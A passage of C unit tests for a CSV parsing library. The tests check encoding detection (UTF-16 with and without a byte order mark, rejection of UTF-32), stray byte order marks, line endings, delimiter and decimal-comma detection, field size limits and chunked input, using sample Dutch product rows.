read_file(const char *relative, const rs_csv_options *opt, capture *cap)
{
    rs_csv_callbacks cb = {is_header, on_header, on_row, cap};
    char *path = rs_test_data_path(relative);
    rs_error err;

    capture_init(cap);
    err = rs_csv_read_file(path, NULL, opt, &cb, cap->problems, &cap->dialect);
    free(path);
    return err;
}

static void
test_utf16_tab_files(void **state)
{
    static const char *const files[] = {"input/utf16le-tab.txt",
                                        "input/utf16be-tab.txt"};
    capture cap;
    size_t i;

    (void)state;
    for (i = 0; i < 2; i++) {
        assert_int_equal(read_file(files[i], NULL, &cap), RS_OK);
        assert_int_equal(cap.dialect.delimiter, '\t');
        assert_int_equal(cap.nrows, 4);
        check_row(&cap.rows[0], 2, "P-9001", "Moer M6 \xC3\x98 10", "250",
                  "0,02", NULL);
        check_row(&cap.rows[1], 3, "P-9002",
                  "Gda\xC5\x84sk \xF0\x9F\x98\x80 doos", "1", "1,50", NULL);
        check_row(&cap.rows[2], 4, "P-9003", "Tab\there", "2", "3", NULL);
        assert_true(cap.rows[2].quoted[1]);
        check_row(&cap.rows[3], 5, "P-9004", "\xE2\x82\xAC-prijs", "1",
                  "\xE2\x82\xAC 12,50", NULL);
        assert_int_equal(cap.dialect.decimal, RS_DECIMAL_COMMA);
        assert_int_equal(cap.dialect.source.encoding,
                         i == 0 ? RS_ENCODING_UTF16LE : RS_ENCODING_UTF16BE);
        assert_string_equal(
            rs_test_find_code(cap.problems, "delimiter")->message,
            "delimiter detected: tab, which splits the "
            "header row on line 1 into 4 columns");
        capture_free(&cap);
    }
}

static rs_error
feed_reader(void *ctx, const char *text, size_t len)
{
    return rs_csv_reader_feed(ctx, text, len);
}

/* Read @p len raw bytes through a decoder into a reader, fed in pieces
 * of @p chunk bytes, as rs_csv_read_file() does with a file. */
static void
run_raw(const unsigned char *data, size_t len, size_t chunk, capture *cap)
{
    rs_csv_callbacks cb = {is_header, on_header, on_row, cap};
    rs_csv_reader *r = rs_csv_reader_new("t.csv", NULL, &cb, cap->problems);
    rs_decoder *dec = rs_decoder_new(feed_reader, r);
    size_t off = 0;

    assert_non_null(r);
    assert_non_null(dec);
    while (off < len && cap->feed_err == RS_OK) {
        size_t n = len - off < chunk ? len - off : chunk;

        cap->feed_err = rs_decoder_feed(dec, data + off, n);
        off += n;
    }
    if (cap->feed_err == RS_OK)
        cap->feed_err = rs_decoder_finish(dec);
    if (cap->feed_err == RS_OK)
        cap->finish_err = rs_csv_reader_finish(r);
    cap->dialect = *rs_csv_reader_dialect(r);
    cap->dialect.source.encoding = rs_decoder_encoding(dec);
    rs_strbuf_printf(&cap->log, "encoding=%s\n",
                     rs_encoding_name(cap->dialect.source.encoding));
    log_outcome(cap);
    rs_decoder_free(dec);
    rs_csv_reader_free(r);
}

/* The bytes of a file under tests/data (malloc'd). */
static unsigned char *
load_bytes(const char *relative, size_t *len)
{
    char *path = rs_test_data_path(relative);
    FILE *fp = fopen(path, "rb");
    unsigned char *data;
    long size;

    assert_non_null(fp);
    assert_int_equal(fseek(fp, 0, SEEK_END), 0);
    size = ftell(fp);
    assert_true(size >= 0);
    rewind(fp);
    data = malloc((size_t)size + 1);
    assert_non_null(data);
    assert_int_equal(fread(data, 1, (size_t)size, fp), (size_t)size);
    fclose(fp);
    free(path);
    *len = (size_t)size;
    return data;
}

/* Read the raw bytes of a data file in every chunk size, check that all
 * give the transcript of one whole feed, and return its capture. */
static void
read_raw_case(const char *relative, capture *cap)
{
    size_t len, chunk;
    unsigned char *data = load_bytes(relative, &len);
    capture part;

    capture_init(cap);
    run_raw(data, len, len ? len : 1, cap);
    for (chunk = 1; chunk <= len; chunk++) {
        capture_init(&part);
        run_raw(data, len, chunk, &part);
        if (strcmp(cap->log.data, part.log.data) != 0)
            print_error("chunk size %zu gave:\n%s\ninstead of:\n%s\n", chunk,
                        part.log.data, cap->log.data);
        assert_string_equal(cap->log.data, part.log.data);
        capture_free(&part);
    }
    free(data);
}

static void
test_utf16_without_bom_rows(void **state)
{
    static const char *const files[] = {"input/utf16le-no-bom.csv",
                                        "input/utf16be-no-bom.csv"};
    capture cap;
    size_t i;

    (void)state;
    for (i = 0; i < 2; i++) {
        read_raw_case(files[i], &cap);
        assert_int_equal(cap.feed_err, RS_OK);
        assert_int_equal(cap.finish_err, RS_OK);
        assert_int_equal(cap.dialect.source.encoding,
                         i == 0 ? RS_ENCODING_UTF16LE_NO_BOM
                                : RS_ENCODING_UTF16BE_NO_BOM);
        assert_int_equal(cap.dialect.delimiter, ',');
        assert_int_equal(cap.headers, 1);
        assert_int_equal(cap.header.count, 7);
        assert_string_equal(cap.header.fields[0], "item");
        assert_int_equal(cap.nrows, 4);
        check_row(&cap.rows[0], 2, "A1", "Bracket", "1000", "12.5", "CN",
                  "0.25", "0.0004", NULL);
        check_row(&cap.rows[1], 3, "A2", "\xE2\x82\xAC x", "5000", "0.04",
                  "CN", "0.003", "0.00001", NULL);
        check_row(&cap.rows[2], 4, "A3", "Gda\xC5\x84sk \xF0\x9F\x98\x80 doos",
                  "10", "1", "PL", "0.5", "0.001", NULL);
        check_row(&cap.rows[3], 5, "A4", "Moer M6 \xC3\x98 10, verzinkt",
                  "250", "0.02", "CN", "0.01", "0.000002", NULL);
        assert_int_equal(rs_test_count_code(cap.problems, "nul"), 0);
        assert_int_equal(
            rs_problems_count_severity(cap.problems, RS_SEV_WARNING), 0);
        capture_free(&cap);
    }
}

static void
test_utf16_without_bom_file(void **state)
{
    capture cap;

    (void)state;
    assert_int_equal(read_file("input/utf16le-no-bom.csv", NULL, &cap), RS_OK);
    assert_int_equal(cap.dialect.source.encoding, RS_ENCODING_UTF16LE_NO_BOM);
    assert_int_equal(cap.nrows, 4);
    check_row(&cap.rows[1], 3, "A2", "\xE2\x82\xAC x", "5000", "0.04", "CN",
              "0.003", "0.00001", NULL);
    assert_string_equal(rs_test_find_code(cap.problems, "encoding")->message,
                        "text has no byte order mark; read as UTF-16LE, "
                        "because its first bytes alternate between text and "
                        "NUL");
    assert_int_equal(rs_test_count_code(cap.problems, "nul"), 0);
    capture_free(&cap);
}

static void
test_utf32_file_rejected(void **state)
{
    static const char *const files[] = {"input/utf32le-no-bom.csv",
                                        "input/utf32be-bom.csv"};
    capture cap;
    size_t i;

    (void)state;
    for (i = 0; i < 2; i++) {
        read_raw_case(files[i], &cap);
        assert_int_equal(cap.feed_err, RS_ERROR_ENCODING);
        assert_int_equal(cap.nrows, 0);
        assert_int_equal(cap.headers, 0);
        capture_free(&cap);

        assert_int_equal(read_file(files[i], NULL, &cap), RS_ERROR_ENCODING);
        assert_int_equal(cap.nrows, 0);
        assert_int_equal(cap.dialect.source.encoding,
                         i == 0 ? RS_ENCODING_UTF32LE : RS_ENCODING_UTF32BE);
        assert_int_equal(rs_problems_count(cap.problems), 1);
        capture_free(&cap);
    }
    assert_int_equal(read_file(files[0], NULL, &cap), RS_ERROR_ENCODING);
    assert_string_equal(rs_test_find_code(cap.problems, "encoding")->message,
                        "looks like UTF-32");
    assert_string_equal(rs_test_find_code(cap.problems, "encoding")->hint,
                        "save it as UTF-8 or UTF-16");
    capture_free(&cap);
}

static void
test_case16_stays_utf8(void **state)
{
    capture cap;

    (void)state;
    /* One NUL byte among 191 does not make the file UTF-16. */
    read_raw_case("cases/16-control-chars-nul.csv", &cap);
    assert_int_equal(cap.dialect.source.encoding, RS_ENCODING_UTF8);
    assert_int_equal(cap.nrows, 5);
    check_row(&cap.rows[1], 3, "P-1602", "Zekering 5x20mm traag", "10", "0,35",
              NULL);
    assert_int_equal(rs_test_count_code(cap.problems, "nul"), 1);
    capture_free(&cap);
}

static void
test_bom_in_fields_removed(void **state)
{
    static const char text[] = "Item,Description,Qty\r\n"
                               "A1,Bracket,1\r\n"
                               "\xEF\xBB\xBF"
                               "A2,Gasket,2\r\n"
                               "\xEF\xBB\xBF\"A3\",\"Seal, round\",3\r\n"
                               "\xEF\xBB\xBF\r\n"
                               "A4,Bra\xEF\xBB\xBF"
                               "cket,4\r\n"
                               "\xEF\xBB\xBF\"A5\r\nx\",y,5\r\n"
                               "  \xEF\xBB\xBF"
                               "A6,z,6\r\n"
                               "A7,\"\xEF\xBB\xBFq\",7\r\n"
                               "\xEF\xBB\xBF";
    static const unsigned long bom_lines[] = {3, 4, 6, 7, 9, 10};
    static const unsigned long bom_columns[] = {1, 1, 2, 1, 1, 2};
    capture cap;
    size_t i, k = 0;

    (void)state;
    check_chunking(text, sizeof(text) - 1, NULL);
    capture_init(&cap);
    run_reader(text, sizeof(text) - 1, NULL, sizeof(text), &cap);
    assert_int_equal(cap.finish_err, RS_OK);
    assert_int_equal(cap.nrows, 7);
    check_row(&cap.rows[0], 2, "A1", "Bracket", "1", NULL);
    check_row(&cap.rows[1], 3, "A2", "Gasket", "2", NULL);
    check_row(&cap.rows[2], 4, "A3", "Seal, round", "3", NULL);
    assert_true(cap.rows[2].quoted[0]);
    check_row(&cap.rows[3], 6, "A4", "Bracket", "4", NULL);
    check_row(&cap.rows[4], 7, "A5\r\nx", "y", "5", NULL);
    assert_true(cap.rows[4].quoted[0]);
    assert_int_equal(cap.rows[4].last_line, 8);
    check_row(&cap.rows[5], 9, "A6", "z", "6", NULL);
    check_row(&cap.rows[6], 10, "A7", "q", "7", NULL);
    assert_int_equal(cap.dialect.lines, 11);
    assert_false(cap.dialect.final_newline);

    /* One warning per field, naming its line and column. */
    assert_int_equal(rs_test_count_code(cap.problems, "byte-order-mark"), 6);
    for (i = 0; i < rs_problems_stored(cap.problems); i++) {
        const rs_problem *p = rs_problems_at(cap.problems, i);

        if (strcmp(p->code, "byte-order-mark") != 0)
            continue;
        assert_int_equal(p->severity, RS_SEV_WARNING);
        assert_int_equal(p->line, bom_lines[k]);
        assert_int_equal(p->column, bom_columns[k]);
        k++;
    }
    assert_problem(&cap, "byte-order-mark",
                   "t.csv:3:1: column 'Item': invisible character U+FEFF "
                   "(byte order mark) removed; the value is used without it");
    capture_free(&cap);
}

static void
test_bom_mid_row_file(void **state)
{
    capture cap;

    (void)state;
    read_raw_case("input/bom-mid-row.csv", &cap);
    assert_int_equal(cap.finish_err, RS_OK);
    assert_int_equal(cap.dialect.source.encoding, RS_ENCODING_UTF8_BOM);
    check_row(&cap.header, 1, "item", "description", "annual_quantity", NULL);
    assert_int_equal(cap.nrows, 4);
    check_row(&cap.rows[0], 2, "A1", "Bracket", "1000", NULL);
    check_row(&cap.rows[1], 3, "A2", "Gasket", "5000", NULL);
    check_row(&cap.rows[2], 4, "A3", "Seal, round", "20", NULL);
    check_row(&cap.rows[3], 5, "A4", "Bracket", "30", NULL);
    assert_int_equal(rs_test_count_code(cap.problems, "byte-order-mark"), 3);
    capture_free(&cap);
}

static void
test_gzip_two_members_rows(void **state)
{
    capture cap;

    (void)state;
    assert_int_equal(read_file("input/two-members.csv.gz", NULL, &cap), RS_OK);
    assert_int_equal(cap.nrows, 3);
    check_row(&cap.rows[2], 4, "P-6003", "Derde", "3", "3,00", NULL);
    assert_true(cap.dialect.source.gzip);
    capture_free(&cap);
}

static void
test_cr_only_lines(void **state)
{
    capture cap;

    (void)state;
    read_case("input/cr-only.csv", NULL, &cap);
    assert_int_equal(cap.nrows, 2);
    check_row(&cap.rows[0], 2, "P-6101", "Oud formaat", "2", "1,25", NULL);
    check_row(&cap.rows[1], 4, "P-6102", "Twee\rregels", "3", "4,50", NULL);
    assert_int_equal(cap.rows[1].last_line, 5);
    assert_int_equal(cap.dialect.eol, RS_EOL_CR);
    assert_int_equal(cap.dialect.lines, 5);
    assert_true(cap.dialect.final_newline);
    capture_free(&cap);
}

static void
test_mixed_line_endings(void **state)
{
    capture cap;

    (void)state;
    read_case("input/mixed-eol.csv", NULL, &cap);
    assert_int_equal(cap.nrows, 4);
    check_row(&cap.rows[0], 2, "P-6201", "LF regel", "1", "1,00", NULL);
    check_row(&cap.rows[1], 3, "P-6202", "CR regel", "2", "2,00", NULL);
    check_row(&cap.rows[2], 4, "P-6203", "Binnen\r\nveld", "3", "3,00", NULL);
    check_row(&cap.rows[3], 6, "P-6204", "Laatste", "4", "4,00", NULL);
    assert_int_equal(cap.dialect.eol, RS_EOL_LF | RS_EOL_CRLF | RS_EOL_CR);
    assert_int_equal(cap.dialect.lines, 6);
    capture_free(&cap);
}

static void
test_minus_sign_values(void **state)
{
    static const double price[] = {-3.1, -0.5, 2};
    capture cap;
    size_t i;
    rs_number num;

    (void)state;
    read_case("input/minus-sign.csv", NULL, &cap);
    assert_int_equal(cap.nrows, 3);
    for (i = 0; i < 3; i++) {
        assert_int_equal(rs_number_parse(cap.rows[i].fields[3],
                                         strlen(cap.rows[i].fields[3]),
                                         cap.rows[i].decimal, RS_NUM_MONEY,
                                         &num),
                         RS_NUMBER_OK);
        assert_close(num.value, price[i], 1e-15);
    }
    assert_int_equal(rs_number_parse(cap.rows[2].fields[2],
                                     strlen(cap.rows[2].fields[2]),
                                     cap.rows[2].decimal, RS_NUM_PLAIN, &num),
                     RS_NUMBER_OK);
    assert_close(num.value, -1, 0);
    capture_free(&cap);
}

static void
test_inch_marks_kept(void **state)
{
    capture cap;
    rs_number num;

    (void)state;
    read_case("input/inch-marks.csv", NULL, &cap);
    assert_int_equal(cap.nrows, 3);
    check_row(&cap.rows[0], 2, "P-6401", "Monitor 27\" zwart", "1", "199,00",
              "27\"", NULL);
    check_row(&cap.rows[1], 3, "P-6402", "Kabel 6\" lang", "10", "1,10",
              "6 \"", NULL);
    check_row(&cap.rows[2], 4, "P-6403", "Plank 1'6\"", "2", "5,00", "0,5 m",
              NULL);
    assert_int_equal(rs_number_parse(cap.rows[0].fields[4], 3,
                                     cap.rows[0].decimal, RS_NUM_LENGTH, &num),
                     RS_NUMBER_OK);
    assert_close(num.value, 0.6858, 1e-15);
    assert_int_equal(rs_number_parse(cap.rows[1].fields[4], 3,
                                     cap.rows[1].decimal, RS_NUM_LENGTH, &num),
                     RS_NUMBER_OK);
    assert_close(num.value, 0.1524, 1e-15);
    capture_free(&cap);
}

static void
test_delimiter_detection(void **state)
{
    static const struct {
        const char *text;
        char delimiter;
    } cases[] = {
        {"Item;Desc;Qty\nA;x, y;1,5\n", ';'},
        {"Item,Desc,Qty\nA,\"x; y\",1.5\n", ','},
        {"Item\tDesc\tQty\nA\tx, y; z\t1,5\n", '\t'},
        {"Item|Desc|Qty\nA|x, y|1,5\n", '|'},
        /* A one-column file whose numbers hold commas. */
        {"Item\n1,5\n2,25\n", ';'},
        /* The header decides over a row with more commas. */
        {"Title, of a, report, with, commas\nItem;Qty\nA;1\n", ';'},
    };
    size_t i;
    capture cap;

    (void)state;
    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        capture_init(&cap);
        run_reader(cases[i].text, strlen(cases[i].text), NULL, 4, &cap);
        if (cap.dialect.delimiter != cases[i].delimiter)
            print_error("case %zu\n", i);
        assert_int_equal(cap.dialect.delimiter, cases[i].delimiter);
        assert_false(cap.dialect.delimiter_given);
        capture_free(&cap);
    }
}

static void
test_delimiter_without_header_test(void **state)
{
    static const char text[] = "a;b;c\n1;2,5;3\n4;5;6\n";
    rs_csv_callbacks cb;
    capture cap;
    rs_csv_reader *r;

    (void)state;
    capture_init(&cap);
    memset(&cb, 0, sizeof(cb));
    cb.header = on_header;
    cb.row = on_row;
    cb.ctx = &cap;
    r = rs_csv_reader_new("t.csv", NULL, &cb, cap.problems);
    assert_int_equal(rs_csv_reader_feed(r, text, sizeof(text) - 1), RS_OK);
    assert_int_equal(rs_csv_reader_finish(r), RS_OK);
    assert_int_equal(rs_csv_reader_dialect(r)->delimiter, ';');
    check_row(&cap.header, 1, "a", "b", "c", NULL);
    assert_int_equal(cap.nrows, 2);
    rs_csv_reader_free(r);
    capture_free(&cap);
}

static void
test_given_delimiter_and_decimal(void **state)
{
    static const char text[] = "sep=;\nItem,Qty\nA,\"1,5\"\n";
    rs_csv_options opt;
    capture cap;

    (void)state;
    memset(&opt, 0, sizeof(opt));
    opt.delimiter = ',';
    opt.decimal = RS_DECIMAL_COMMA;
    check_chunking(text, sizeof(text) - 1, &opt);
    capture_init(&cap);
    run_reader(text, sizeof(text) - 1, &opt, 2, &cap);
    assert_int_equal(cap.dialect.delimiter, ',');
    assert_true(cap.dialect.delimiter_given);
    assert_true(cap.dialect.sep_line);
    assert_int_equal(cap.dialect.decimal, RS_DECIMAL_COMMA);
    assert_int_equal(cap.dialect.decimal_origin, RS_DECIMAL_FROM_CONFIG);
    check_row(&cap.rows[0], 3, "A", "1,5", NULL);
    assert_null(rs_test_find_code(cap.problems, "delimiter"));
    capture_free(&cap);
}

static void
test_column_names_without_header(void **state)
{
    static const char text[] = "\n1;2;3,5\n4;5\n";
    static const char *const names[] = {"a", "b", "c"};
    rs_csv_options opt;
    capture cap;

    (void)state;
    memset(&opt, 0, sizeof(opt));
    opt.column_names = names;
    opt.column_count = 3;
    check_chunking(text, sizeof(text) - 1, &opt);
    capture_init(&cap);
    run_reader(text, sizeof(text) - 1, &opt, 100, &cap);
    assert_int_equal(cap.finish_err, RS_OK);
    assert_int_equal(cap.headers, 1);
    check_row(&cap.header, 0, "a", "b", "c", NULL);
    assert_int_equal(cap.dialect.header_line, 0);
    assert_int_equal(cap.nrows, 2);
    check_row(&cap.rows[0], 2, "1", "2", "3,5", NULL);
    check_row(&cap.rows[1], 3, "4", "5", NULL);
    capture_free(&cap);

    capture_init(&cap);
    run_reader("", 0, &opt, 1, &cap);
    assert_int_equal(cap.finish_err, RS_ERROR_EMPTY);
    assert_problem(&cap, "empty-file",
                   "t.csv: empty file (no data); check that the file was "
                   "exported completely");
    capture_free(&cap);
}

/* Build a file with a header and @p rows rows of quantity @p qty. */
static char *
make_rows(char delim, const char *first_qty, const char *qty, size_t rows,
          size_t *len)
{
    rs_strbuf sb;
    size_t i;

    rs_strbuf_init(&sb);
    rs_strbuf_printf(&sb, "Item%cQty\n", delim);
    for (i = 0; i < rows; i++)
        rs_strbuf_printf(&sb, "P-%zu%c%s\n", i, delim,
                         i == 0 ? first_qty : qty);
    *len = sb.len;
    return rs_strbuf_take(&sb);
}

static void
test_decimal_vote_and_fallback(void **state)
{
    static const struct {
        char delim;
        const char *first, *rest;
        rs_decimal decimal;
        rs_decimal_origin origin;
    } cases[] = {
        {';', "1.5", "2", RS_DECIMAL_POINT, RS_DECIMAL_FROM_DATA},
        {',', "\"1,5\"", "2", RS_DECIMAL_COMMA, RS_DECIMAL_FROM_DATA},
        {';', "1.234", "2", RS_DECIMAL_COMMA, RS_DECIMAL_FALLBACK},
        {',', "1,234", "2", RS_DECIMAL_POINT, RS_DECIMAL_FALLBACK},
        {'\t', "7", "7", RS_DECIMAL_POINT, RS_DECIMAL_FALLBACK},
    };
    size_t i, len;
    capture cap;

    (void)state;
    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char *text =
            make_rows(cases[i].delim, cases[i].first, cases[i].rest, 5, &len);

        capture_init(&cap);
        run_reader(text, len, NULL, 7, &cap);
        assert_int_equal(cap.dialect.decimal, cases[i].decimal);
        assert_int_equal(cap.dialect.decimal_origin, cases[i].origin);
        assert_int_equal(cap.nrows, 5);
        assert_int_equal(cap.rows[0].decimal, cases[i].decimal);
        assert_non_null(rs_test_find_code(cap.problems, "decimal"));
        capture_free(&cap);
        free(text);
    }
}

static void
test_decimal_tie_and_note(void **state)
{
    static const char text[] = "Item;Qty\nA;1.5\nB;2,5\n";
    capture cap;

    (void)state;
    capture_init(&cap);
    run_reader(text, sizeof(text) - 1, NULL, 100, &cap);
    assert_int_equal(cap.dialect.decimal, RS_DECIMAL_COMMA);
    assert_int_equal(cap.dialect.decimal_origin, RS_DECIMAL_FALLBACK);
    assert_problem(&cap, "decimal",
                   "t.csv: decimal separator: comma, because the delimiter "
                   "is semicolon and the numbers are split evenly between "
                   "the two; set the decimal convention in the configuration "
                   "if this is wrong");
    capture_free(&cap);

    capture_init(&cap);
    run_reader("Item;Qty\nA;1,5\n", 15, NULL, 100, &cap);
    assert_problem(&cap, "decimal",
                   "t.csv: decimal separator: comma, decided from the "
                   "numbers (1 with a decimal comma, 0 with a decimal "
                   "point); set the decimal convention in the configuration "
                   "if this is wrong");
    capture_free(&cap);
}

static void
test_decimal_sample_limit(void **state)
{
    /* Evidence only after the sampled rows does not count. */
    size_t len, n = RS_CSV_DECIMAL_SAMPLE_ROWS;
    char *text = make_rows(';', "1.234", "1.234", n + 10, &len);
    char *late = strstr(text, "P-1005;1.234");
    capture cap;
    size_t i;

    (void)state;
    assert_non_null(late);
    memcpy(late, "P-1005;12.50", 12);
    check_chunking(text, len, NULL);
    capture_init(&cap);
    run_reader(text, len, NULL, 4096, &cap);
    assert_int_equal(cap.dialect.decimal_origin, RS_DECIMAL_FALLBACK);
    assert_int_equal(cap.dialect.decimal, RS_DECIMAL_COMMA);
    assert_int_equal(cap.nrows, n + 10);
    for (i = 0; i < cap.nrows; i++) {
        assert_int_equal(cap.rows[i].number, i + 1);
        assert_int_equal(cap.rows[i].line, i + 2);
        assert_int_equal(cap.rows[i].decimal, RS_DECIMAL_COMMA);
    }
    capture_free(&cap);
    free(text);
}

static void
test_row_callback_error_stops(void **state)
{
    static const char text[] = "Item;Qty\nA;1\nB;2\nC;3\n";
    capture cap;
    size_t chunk;

    (void)state;
    for (chunk = 1; chunk <= sizeof(text); chunk++) {
        capture_init(&cap);
        cap.fail_at = 2;
        run_reader(text, sizeof(text) - 1, NULL, chunk, &cap);
        assert_int_equal(cap.nrows, 2);
        assert_int_equal(cap.finish_err, RS_ERROR_DATA);
        capture_free(&cap);
    }
}

static void
test_field_length_limit(void **state)
{
    size_t big = RS_CSV_MAX_FIELD_BYTES + 10, len;
    char *text = malloc(big + 64);
    capture cap;
    size_t off;

    (void)state;
    off = (size_t)sprintf(text, "Item;Qty\nA;1\nB;\"");
    memset(text + off, 'x', big);
    len = off + big;
    capture_init(&cap);
    run_reader(text, len, NULL, 65536, &cap);
    assert_int_equal(cap.finish_err, RS_ERROR_LIMIT);
    assert_int_equal(cap.nrows, 1);
    assert_problem(&cap, "field-too-long",
                   "t.csv:3: field longer than 16 MiB; check for a quote "
                   "that is never closed");
    capture_free(&cap);

    /* The same field closed: the same outcome in one feed. */
    memcpy(text + len, "\";1\n", 4);
    capture_init(&cap);
    run_reader(text, len + 4, NULL, len + 4, &cap);
    assert_int_equal(cap.finish_err, RS_ERROR_LIMIT);
    assert_int_equal(cap.nrows, 1);
    capture_free(&cap);
    free(text);
}

static void
test_sniff_boundary_in_quoted_field(void **state)
{
    /* The first 64 KiB end inside a quoted field of many lines. */
    rs_strbuf sb;
    size_t i;
    capture cap;

    (void)state;
    rs_strbuf_init(&sb);
    rs_strbuf_puts(&sb, "Item;Description;Qty\r\nA;\"");
    for (i = 0; i < 3000; i++)
        rs_strbuf_puts(&sb, "line of text; with \"\"quotes\"\"\r\n");
    rs_strbuf_puts(&sb, "end\";1\r\nB;plain;2\r\n");
    check_chunking(sb.data, sb.len, NULL);
    capture_init(&cap);
    run_reader(sb.data, sb.len, NULL, sb.len, &cap);
    assert_int_equal(cap.nrows, 2);
    assert_int_equal(cap.rows[0].line, 2);
    assert_int_equal(cap.rows[0].last_line, 3002);
    check_row(&cap.rows[1], 3003, "B", "plain", "2", NULL);
    assert_int_equal(cap.dialect.delimiter, ';');
    capture_free(&cap);
    rs_strbuf_free(&sb);
}

/* A mixed input of about 300 KB: quotes, line breaks of every kind,
 * blank rows, controls, non-ASCII, ragged rows. */
static char *
make_mixed(size_t *len)
{
    static const char *const eols[] = {"\r\n", "\n", "\r"};
    rs_strbuf sb;
    size_t i;

    rs_strbuf_init(&sb);
    rs_strbuf_puts(&sb, "\xEF\xBB\xBF"
                        "Report\r\n\r\n"
                        "Item;Description;Qty;Unit price\r\n");
    for (i = 0; i < 4000; i++) {
        const char *eol = eols[i % 3];

        switch (i % 7) {
        case 0:
            rs_strbuf_printf(&sb,
                             "P-%zu;\"multi%sline; \"\"q\"\"\";%zu;"
                             "%zu,%02zu%s",
                             i, eols[(i / 7) % 3], i % 13, i % 90, i % 100,
                             eol);
            break;
        case 1:
            rs_strbuf_printf(&sb, "%s;;;%s", eol, eol);
            break;
        case 2:
            rs_strbuf_printf(&sb, "P-%zu;Caf\xC3\xA9 \xE2\x82\xAC\x01;%zu%s",
                             i, i, eol);
            break;
        case 3:
            rs_strbuf_printf(&sb, "P-%zu; spaced ;  7 ;1.234,5;extra%s", i,
                             eol);
            break;
        default:
            rs_strbuf_printf(&sb, "P-%zu;\"x\";\"%zu\";\"0,5\"%s", i, i, eol);
            break;
        }
    }
    rs_strbuf_puts(&sb, "P-end;\"open");
    *len = sb.len;
    return rs_strbuf_take(&sb);
}

static void
test_chunking_large_mixed_input(void **state)
{
    size_t len;
    char *text = make_mixed(&len);
    capture cap;

    (void)state;
    check_chunking(text, len, NULL);
    capture_init(&cap);
    run_reader(text, len, NULL, len, &cap);
    assert_int_equal(cap.finish_err, RS_ERROR_CSV);
    assert_int_equal(cap.dialect.header_line, 3);
    assert_int_equal(cap.dialect.skipped_lines, 1);
    assert_true(cap.nrows > 3000);
    capture_free(&cap);
    free(text);
}

/* Splitter row callback: append the row to a transcript. */
static void
log_split_row(rs_csvsplit *sp, void *owner)
{
    rs_csv_record rec;

    assert_int_equal(rs_csvsplit_record(sp, &rec), RS_OK);
    rs_strbuf_printf(owner, "blank=%d ", rs_csvsplit_blank(sp));
    log_row(owner, "S", &rec, RS_DECIMAL_AUTO);
}

/* Split @p text in pieces of @p chunk bytes; returns the transcript. */
static char *
split_transcript(const char *text, size_t len, char delimiter, size_t chunk)
{
    rs_strbuf log;
    rs_csvsplit sp;
    size_t off = 0;
    unsigned long line = 0;
    bool open;

    rs_strbuf_init(&log);
    assert_int_equal(rs_csvsplit_init(&sp, delimiter, log_split_row, &log),
                     RS_OK);
    while (off < len) {
        size_t n = len - off < chunk ? len - off : chunk;

        assert_int_equal(rs_csvsplit_feed(&sp, text + off, n), RS_OK);
        off += n;
    }
    open = rs_csvsplit_open_quote(&sp, &line);
    assert_int_equal(rs_csvsplit_finish(&sp, !open), RS_OK);
    rs_strbuf_printf(&log, "open=%d@%lu breaks=%lu mid=%d eol=%u\n", open,
                     line, sp.breaks, sp.mid_line, sp.eol);
    rs_csvsplit_free(&sp);
    return rs_strbuf_take(&log);
}

static void
test_splitter_every_chunk_size(void **state)
{
    static const struct {
        const char *file;
        char delimiter;
    } files[] = {
        {"cases/01-cp1252-accents.csv", ';'},
        {"cases/02-utf8-bom-quoted-header.csv", ';'},
        {"cases/03-excel-sep-line.csv", ';'},
        {"cases/05-nl-number-formats.csv", ';'},
        {"cases/08-unterminated-quote.csv", ';'},
        {"cases/09-rfc4180-quotes-newlines.csv", ';'},
        {"cases/11-no-final-newline.csv", ';'},
        {"cases/12-blank-and-ragged-rows.csv", ';'},
        {"cases/16-control-chars-nul.csv", ';'},
        {"cases/18-overlong-cells.csv", ';'},
        {"cases/20-formula-injection.csv", ';'},
        {"cases/22-jlcpcb-kicad-bom.csv", ','},
        {"cases/23-sap-multilevel-bom.csv", ';'},
        {"input/utf16le-tab.txt", '\t'},
        {"input/cr-only.csv", ';'},
        {"input/mixed-eol.csv", ';'},
        {"input/inch-marks.csv", ';'},
    };
    static const char *const texts[] = {
        "a,\"b\r\nc\",d\r\n\"\"\"x\"\"\",\"\"\r\r\n e ,f",
        "\"ab\"cd\"ef\r\ngh\",1\n\"open",
        "  \"q\"  ,\"r\"\"\"\n\n\r\r\n,\n",
    };
    size_t i, len, chunk, sizes;

    (void)state;
    for (i = 0; i < sizeof(files) / sizeof(files[0]) + 3; i++) {
        bool is_file = i < sizeof(files) / sizeof(files[0]);
        char *text = is_file
                         ? load_text(files[i].file, &len)
                         : strdup(texts[i - sizeof(files) / sizeof(files[0])]);
        char delimiter = is_file ? files[i].delimiter : ',';
        char *whole;

        if (!is_file)
            len = strlen(text);
        whole = split_transcript(text, len, delimiter, len);
        sizes = len <= 4096 ? len : 6;
        for (chunk = 0; chunk < sizes; chunk++) {
            size_t size = len <= 4096 ? chunk + 1 : fixed_chunks[chunk];
            char *part = split_transcript(text, len, delimiter, size);

            if (strcmp(whole, part) != 0)
                print_error("input %zu, chunk size %zu:\n%s\n", i, size, part);
            assert_string_equal(whole, part);
            free(part);
        }
        free(whole);
        free(text);
    }
}

static void
test_splitter_lines_and_quotes(void **state)
{
    static const char one[] =
        "a,\"b\r\nc\",d\r\n\"\"\"x\"\"\",\"\"\r\r\n e ,f";
    static const char two[] = "x\n\"ab\"cd\"ef\r\ngh\",1\n\"open";
    char *log;

    (void)state;
    log = split_transcript(one, sizeof(one) - 1, ',', sizeof(one));
    assert_string_equal(log, "blank=0 S #0 1-2 n=3 dec=auto |a |\"b\\x0D"
                             "\\x0Ac |d\n"
                             "blank=0 S #0 3-3 n=2 dec=auto |\"\"x\" |\"\n"
                             "blank=0 S #0 5-5 n=2 dec=auto |e |f\n"
                             "open=0@0 breaks=4 mid=1 eol=6\n");
    free(log);
    log = split_transcript(two, sizeof(two) - 1, ',', sizeof(two));
    assert_string_equal(log, "blank=0 S #0 1-1 n=1 dec=auto |x\n"
                             "blank=0 S #0 2-3 n=2 dec=auto |\"ab\"cd\"ef"
                             "\\x0D\\x0Agh |1\n"
                             "open=1@4 breaks=3 mid=1 eol=3\n");
    free(log);
}

static void
test_delimiter_names(void **state)
{
    (void)state;
    assert_string_equal(rs_delimiter_name(','), "comma");
    assert_string_equal(rs_delimiter_name(';'), "semicolon");
    assert_string_equal(rs_delimiter_name('\t'), "tab");
    assert_string_equal(rs_delimiter_name('|'), "pipe");
    rs_csv_reader_free(NULL);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_case01_cp1252),
